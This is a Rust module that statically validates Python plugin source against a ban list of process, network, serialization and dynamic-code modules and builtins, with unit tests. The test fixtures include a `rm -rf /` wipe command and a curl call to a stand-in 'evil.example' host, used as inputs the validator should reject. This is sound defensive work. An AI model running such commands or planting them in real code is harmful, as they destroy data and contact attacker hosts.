//! Gatekeeper: static validation of plugin source before it is trusted
//! enough to run in a sandbox (§4.3).
//!
//! Five checks, in order: the source parses; it imports nothing from the
//! banned capability list; it calls none of the banned builtins; it defines
//! at least one class derived from `BasePlugin`; its signature verifies.
//! A Gatekeeper only ever returns a report — it never raises to the caller.

use crate::identity::IdentityProvider;
use rustpython_ast::Visitor;
use rustpython_parser::{ast, Parse};
use std::collections::HashSet;

/// Capability modules a plugin must not import: process control, raw
/// sockets, filesystem at large, dynamic code evaluation, pickle-style
/// serialization of executable objects (§4.3 check 2).
const BANNED_MODULES: &[&str] = &[
    "os",
    "sys",
    "subprocess",
    "shutil",
    "socket",
    "ctypes",
    "multiprocessing",
    "importlib",
    "__import__",
    "pickle",
    "shelve",
    "marshal",
    "requests",
    "urllib",
    "http",
    "ftplib",
    "smtplib",
];

/// Builtins whose direct call is banned regardless of import (§4.3 check 3).
const BANNED_BUILTINS: &[&str] = &["eval", "exec", "compile", "__import__", "open"];

const BASE_PLUGIN_CLASS: &str = "BasePlugin";

#[derive(Debug, Clone, Default)]
pub struct GatekeeperReport {
    pub safe: bool,
    pub violations: Vec<String>,
}

pub struct Gatekeeper {
    banned_modules: HashSet<String>,
    banned_builtins: HashSet<String>,
}

impl Default for Gatekeeper {
    fn default() -> Self {
        Self::new()
    }
}

impl Gatekeeper {
    pub fn new() -> Self {
        Self {
            banned_modules: BANNED_MODULES.iter().map(|s| s.to_string()).collect(),
            banned_builtins: BANNED_BUILTINS.iter().map(|s| s.to_string()).collect(),
        }
    }

    /// Configurable banlist constructor (§4.3: "a configurable banlist").
    pub fn with_banned_modules(banned_modules: impl IntoIterator<Item = String>) -> Self {
        Self { banned_modules: banned_modules.into_iter().collect(), banned_builtins: Self::new().banned_builtins }
    }

    /// Checks 1-4: static analysis of the source alone, no signature.
    pub fn analyze(&self, source_code: &str) -> GatekeeperReport {
        let suite = match ast::Suite::parse(source_code, "<plugin>") {
            Ok(suite) => suite,
            Err(err) => {
                return GatekeeperReport { safe: false, violations: vec![format!("failed to parse source: {err}")] }
            }
        };

        let mut visitor = GatekeeperVisitor::new(&self.banned_modules, &self.banned_builtins);
        for stmt in &suite {
            visitor.visit_stmt(stmt.clone());
        }

        if !visitor.has_base_plugin_subclass {
            visitor
                .violations
                .push(format!("source defines no class derived from {BASE_PLUGIN_CLASS}"));
        }

        GatekeeperReport { safe: visitor.violations.is_empty(), violations: visitor.violations }
    }

    /// All five checks, including signature verification under `identity`.
    pub fn validate(&self, source_code: &str, artifact_hash: &str, signature: &str, identity: &dyn IdentityProvider) -> GatekeeperReport {
        let mut report = self.analyze(source_code);

        match identity.verify_signature(artifact_hash, signature) {
            Ok(true) => {}
            Ok(false) => report.violations.push("signature does not verify".to_string()),
            Err(err) => report.violations.push(format!("signature verification error: {err}")),
        }

        report.safe = report.violations.is_empty();
        report
    }
}

struct GatekeeperVisitor<'a> {
    banned_modules: &'a HashSet<String>,
    banned_builtins: &'a HashSet<String>,
    violations: Vec<String>,
    has_base_plugin_subclass: bool,
}

impl<'a> GatekeeperVisitor<'a> {
    fn new(banned_modules: &'a HashSet<String>, banned_builtins: &'a HashSet<String>) -> Self {
        Self { banned_modules, banned_builtins, violations: Vec::new(), has_base_plugin_subclass: false }
    }

    fn check_import(&mut self, module_name: &str, context: &str) {
        let base = module_name.split('.').next().unwrap_or(module_name);
        if self.banned_modules.contains(module_name) || self.banned_modules.contains(base) {
            self.violations.push(format!("banned import: '{context} {module_name}'"));
        }
    }

    fn check_call(&mut self, func: &ast::Expr) {
        if let Some(name) = called_name(func) {
            if self.banned_builtins.contains(&name) {
                self.violations.push(format!("banned builtin call: '{name}'"));
            }
        }
        if let Some(name) = dynamic_import_name(func) {
            self.violations.push(format!("banned dynamic import: '{name}'"));
        }
    }

    fn check_class_bases(&mut self, class_def: &ast::StmtClassDef) {
        for base in &class_def.bases {
            if let ast::Expr::Name(name) = base {
                if name.id.as_str() == BASE_PLUGIN_CLASS {
                    self.has_base_plugin_subclass = true;
                }
            }
        }
    }
}

fn called_name(func: &ast::Expr) -> Option<String> {
    match func {
        ast::Expr::Name(name) => Some(name.id.to_string()),
        ast::Expr::Attribute(attr) => Some(attr.attr.to_string()),
        _ => None,
    }
}

/// Recognizes `__import__(...)`, `importlib.import_module(...)`,
/// `importlib.reload(...)`, and `builtins.__import__(...)`.
fn dynamic_import_name(func: &ast::Expr) -> Option<String> {
    match func {
        ast::Expr::Name(name) if name.id.as_str() == "__import__" => Some("__import__".to_string()),
        ast::Expr::Attribute(attr) => {
            let ast::Expr::Name(value) = attr.value.as_ref() else { return None };
            let receiver = value.id.as_str();
            match attr.attr.as_str() {
                "import_module" | "reload" if receiver == "importlib" => {
                    Some(format!("importlib.{}", attr.attr.as_str()))
                }
                "__import__" if receiver == "builtins" || receiver == "__builtins__" => {
                    Some(format!("{receiver}.__import__"))
                }
                _ => None,
            }
        }
        _ => None,
    }
}

impl<'a> Visitor for GatekeeperVisitor<'a> {
    fn visit_stmt_import(&mut self, node: ast::StmtImport) {
        for alias in &node.names {
            self.check_import(alias.name.as_str(), "import");
        }
        self.generic_visit_stmt_import(node);
    }

    fn visit_stmt_import_from(&mut self, node: ast::StmtImportFrom) {
        if let Some(module) = &node.module {
            self.check_import(module.as_str(), "from");
        }
        self.generic_visit_stmt_import_from(node);
    }

    fn visit_stmt_class_def(&mut self, node: ast::StmtClassDef) {
        self.check_class_bases(&node);
        self.generic_visit_stmt_class_def(node);
    }

    fn visit_expr_call(&mut self, node: ast::ExprCall) {
        self.check_call(&node.func);
        self.generic_visit_expr_call(node);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::identity::LocalProvider;

    const VALID_PLUGIN: &str = r#"
import pandas as pd

class CsvPlugin(BasePlugin):
    def consume(self, event):
        df = pd.read_csv(event.path)
        yield df
"#;

    #[test]
    fn accepts_well_formed_plugin() {
        let gatekeeper = Gatekeeper::new();
        let report = gatekeeper.analyze(VALID_PLUGIN);
        assert!(report.safe, "unexpected violations: {:?}", report.violations);
    }

    #[test]
    fn rejects_banned_import() {
        let gatekeeper = Gatekeeper::new();
        let code = r#"
import os

class EvilPlugin(BasePlugin):
    def consume(self, event):
        os.system("rm -rf /")
"#;
        let report = gatekeeper.analyze(code);
        assert!(!report.safe);
        assert!(report.violations.iter().any(|v| v.contains("import os")));
    }

    #[test]
    fn rejects_banned_from_import() {
        let gatekeeper = Gatekeeper::new();
        let code = r#"
from subprocess import run

class EvilPlugin(BasePlugin):
    def consume(self, event):
        run(["curl", "evil.example"])
"#;
        let report = gatekeeper.analyze(code);
        assert!(!report.safe);
        assert!(report.violations.iter().any(|v| v.contains("from subprocess")));
    }

    #[test]
    fn rejects_banned_builtin_call() {
        let gatekeeper = Gatekeeper::new();
        let code = r#"
class EvilPlugin(BasePlugin):
    def consume(self, event):
        eval("1 + 1")
"#;
        let report = gatekeeper.analyze(code);
        assert!(!report.safe);
        assert!(report.violations.iter().any(|v| v.contains("eval")));
    }

    #[test]
    fn rejects_missing_base_plugin_subclass() {
        let gatekeeper = Gatekeeper::new();
        let code = r#"
class NotAPlugin:
    def consume(self, event):
        return []
"#;
        let report = gatekeeper.analyze(code);
        assert!(!report.safe);
        assert!(report.violations.iter().any(|v| v.contains("BasePlugin")));
    }

    #[test]
    fn rejects_invalid_syntax() {
        let gatekeeper = Gatekeeper::new();
        let report = gatekeeper.analyze("def broken(:\n");
        assert!(!report.safe);
    }

    #[test]
    fn validate_checks_signature_too() {
        let gatekeeper = Gatekeeper::new();
        let identity = LocalProvider::new("secret");
        let artifact_hash = "deadbeef";
        let signature = identity.sign_artifact(artifact_hash).unwrap();

        let good = gatekeeper.validate(VALID_PLUGIN, artifact_hash, &signature, &identity);
        assert!(good.safe);

        let bad = gatekeeper.validate(VALID_PLUGIN, artifact_hash, "0000", &identity);
        assert!(!bad.safe);
        assert!(bad.violations.iter().any(|v| v.contains("signature")));
    }
}
